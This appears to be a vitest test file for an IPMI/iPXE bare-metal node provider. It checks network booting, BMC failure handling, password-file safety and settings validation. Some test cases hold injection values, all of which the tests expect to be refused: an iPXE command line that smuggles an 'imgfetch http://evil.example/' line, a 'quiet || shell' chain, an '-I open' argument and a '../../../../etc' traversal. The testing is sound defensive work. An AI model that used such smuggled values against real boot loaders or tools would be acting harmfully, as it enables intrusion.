import { chmod, mkdtempDisposable, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { digestOf, parseYaml } from '@lkt/core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { EXAMPLE_LABELS } from '../../example-labels.ts';
import { openIpmi } from '../../../src/providers/ipmi/open.ts';
import { IPMI_SETTINGS, type IpmiSettings } from '../../../src/providers/ipmi/settings.ts';
import type { MachineImage, NodeRequest, Provider } from '../../../src/provider.ts';
import { describeProvider } from '../../provider-conformance.ts';
import { serveBootFiles } from './boot-server.ts';
import { type IpmiTestMachine, startIpmiMachine } from './ipmi-machine.ts';
import { imageIn, macOf, startRack, writePassword } from './rack.ts';

describeProvider('ipmi', async () => {
  await using stack = new AsyncDisposableStack();
  const rack = stack.use(await startRack(async () => startIpmiMachine(['-net', 'none'])));
  const { dir, machines } = rack;
  const fixture = {
    open: async () => openIpmi({ ...settingsOf(dir, machines), warn: () => undefined }),
    image: await imageIn(dir, 'hello'),
    otherImage: await imageIn(dir, 'other'),
    template: { cpus: 1, memory: 64, publish: [8080], volumes: [] },
    impossible: { name: '../escape' },
    powerOff: async ({ name }: { readonly name: string }) => machines.get(name)?.kill(),
  };
  const owned = stack.move();
  return {
    ...fixture,
    [Symbol.asyncDispose]: async () => {
      // The last test destroyed every node: nothing boots a machine that is free.
      expect(await readdir(join(dir, 'state', 'boot', 'machines'))).toEqual([]);
      expect(await readdir(join(dir, 'state', 'nodes'))).toEqual([]);
      await owned.disposeAsync();
    },
  };
});

describe('ipmi machine', () => {
  const served: string[] = [];
  const stack = new AsyncDisposableStack();
  let dir = '';
  let machine: IpmiTestMachine;
  let provider: Provider;
  beforeAll(async () => {
    dir = stack.use(await mkdtempDisposable(join(tmpdir(), 'lkt-fleet-'))).path;
    const { port, ended } = await serveBootFiles(join(dir, 'state', 'boot'), served);
    stack.defer(async () => ended());
    const card = `virtio-net-pci,netdev=n,mac=${macOf(0)},bootindex=0`;
    const network = `user,id=n,bootfile=http://10.0.2.2:${port}/boot.ipxe`;
    machine = stack.use(await startIpmiMachine(['-netdev', network, '-device', card]));
    const open = await opener(dir, new Map([['rack-0', machine]]));
    provider = stack.use(await open());
  });
  afterAll(async () => stack.disposeAsync());
  const options = { generation: 1, signal: AbortSignal.timeout(170_000) };

  test('boots the image of its node from the network', async () => {
    const image = await imageIn(dir, 'booted by iPXE');
    const id = await provider.prepare(image, options);
    await provider.create(request('rack-0', id, image), options);
    expect(await machine.bootDevice()).toBe('pxe');
    await vi.waitFor(async () => expect(await machine.console()).toContain('booted by iPXE'), {
      timeout: 160_000,
      interval: 500,
    });
    expect(served.join('\n')).toContain(`/images/${id}/kernel`);
    await provider.destroy('rack-0', { ...options, reason: 'excess', graceMs: 0 });
    expect(await provider.list('shop', options)).toEqual([]);
  });

  test('lists a node as running while its BMC does not respond, with a warning', async () => {
    const image = await imageIn(dir, 'quiet');
    const id = await provider.prepare(image, options);
    await provider.create(request('rack-0', id, image), options);
    const warnings: string[] = [];
    const bmc = { ...machine, bmc: '127.0.0.1:1' };
    const open = await opener(dir, new Map([['rack-0', bmc]]), warnings);
    await using elsewhere = await open();
    expect(await elsewhere.list('shop', options)).toMatchObject([{ power: 'running' }]);
    expect(warnings).toEqual([expect.stringContaining('the BMC of rack-0, 127.0.0.1:1, failed')]);
    const destroyed = elsewhere.destroy('rack-0', { ...options, reason: 'excess', graceMs: 0 });
    await expect(destroyed).rejects.toMatchObject({ failure: 'unavailable' });
    await provider.destroy('rack-0', { ...options, reason: 'excess', graceMs: 0 });
  });

  test('reports a wrong password without printing it', async () => {
    const password = join(dir, 'wrong');
    await writeFile(password, 'hunter2\n', { mode: 0o600 });
    const settings = { ...settingsOf(dir, new Map([['rack-0', machine]])), passwordFile: password };
    await using wrong = await openIpmi({ ...settings, warn: () => undefined });
    const image = await imageIn(dir, 'quiet');
    const id = await wrong.prepare(image, options);
    const error: unknown = await wrong
      .create(request('rack-0', id, image), options)
      .catch((caught: unknown) => caught);
    expect(error).toMatchObject({
      failure: 'unavailable',
      fix: expect.stringContaining('password'),
    });
    expect(String(error)).not.toContain('hunter2');
    await provider.destroy('rack-0', { ...options, reason: 'excess', graceMs: 0 });
  });

  test.each([
    ['$', 'console=ttyS0 x=${y}'],
    ['a quote', 'name="a b"'],
    ['a second line', 'quiet\nimgfetch http://evil.example/'],
    ['another command', 'quiet || shell'],
  ])('refuses a command line with %s, which iPXE would change', async (_, cmdline) => {
    const { files } = await imageIn(dir, 'quiet');
    const image = { digest: digestOf(cmdline), files: { ...files, cmdline } as typeof files };
    await expect(provider.prepare(image, options)).rejects.toMatchObject({ failure: 'invalid' });
  });

  test('refuses a file of the password that others may read, or that is missing', async () => {
    const settings = { ...settingsOf(dir, new Map()), warn: () => undefined };
    const open = join(dir, 'open');
    await writeFile(open, 'test\n');
    await chmod(open, 0o644);
    await expect(openIpmi({ ...settings, passwordFile: open })).rejects.toMatchObject({
      code: 'ACCESS_DENIED',
      fix: `run chmod 600 ${open}`,
    });
    const missing = openIpmi({ ...settings, passwordFile: join(dir, 'no') });
    await expect(missing).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  test('lists no node at all if a record is damaged', async () => {
    const image = await imageIn(dir, 'quiet');
    const id = await provider.prepare(image, options);
    await provider.create(request('rack-0', id, image), options);
    const record = join(dir, 'state', 'nodes', 'rack-0.json');
    const text = await readFile(record, 'utf8');
    await writeFile(record, '{');
    await expect(provider.list('shop', options)).rejects.toMatchObject({ failure: 'malformed' });
    await writeFile(record, text);
    await provider.destroy('rack-0', { ...options, reason: 'excess', graceMs: 0 });
  });
});

describe('ipmi settings', () => {
  test('accepts machines', () => {
    expect(read(`  rack-0: {bmc: "10.0.0.1:623", mac: "${macOf(0)}"}`)).toMatchObject({
      firmware: 'efi',
      machines: new Map([['rack-0', { bmc: '10.0.0.1:623', mac: macOf(0) }]]),
    });
  });

  test.each([
    [`  Rack: {bmc: a, mac: "${macOf(0)}"}`, '"Rack" is not a valid node name'],
    [`  a: {bmc: "-I open", mac: "${macOf(0)}"}`, '"-I open" is not HOST or HOST:PORT'],
    ['  a: {bmc: a, mac: "52:54:00"}', 'is not a MAC address'],
    ['  a: {bmc: a, mac: "../../../../etc"}', 'is not a MAC address'],
    [
      `  a: {bmc: a, mac: "${macOf(0)}"}\n  b: {bmc: b, mac: "${macOf(0)}"}`,
      `two machines have the address ${macOf(0)}`,
    ],
  ])('rejects %j', (machines, message) => {
    expect(() => read(machines)).toThrow(message);
  });
});

function read(machines: string): unknown {
  const text = `user: lkt\npasswordFile: bmc.password\nmachines:\n${machines}`;
  return IPMI_SETTINGS.read(parseYaml({ path: 'fleet.yml', text }));
}

function settingsOf(
  dir: string,
  machines: ReadonlyMap<string, IpmiTestMachine>,
): Omit<IpmiSettings, 'state'> & { readonly dir: string } {
  const own = [...machines].map(([name, { bmc }], index) => {
    const machine = { bmc, mac: macOf(index), address: '127.0.0.1' };
    return [name, machine] as const;
  });
  return {
    dir: join(dir, 'state'),
    user: 'admin',
    passwordFile: join(dir, 'password'),
    firmware: 'bios',
    machines: new Map(own),
  };
}

async function opener(
  dir: string,
  machines: ReadonlyMap<string, IpmiTestMachine>,
  warnings: string[] = [],
): Promise<() => Promise<Provider>> {
  await writePassword(dir);
  const warn = (text: string): void => void warnings.push(text);
  return async () => openIpmi({ ...settingsOf(dir, machines), warn });
}

function request(name: string, image: string, { digest }: MachineImage): NodeRequest {
  return {
    name,
    image,
    labels: { ...EXAMPLE_LABELS, image: digest },
    template: { cpus: 1, memory: 64, publish: [], volumes: [] },
    metadata: undefined,
    settings: undefined,
  };
}
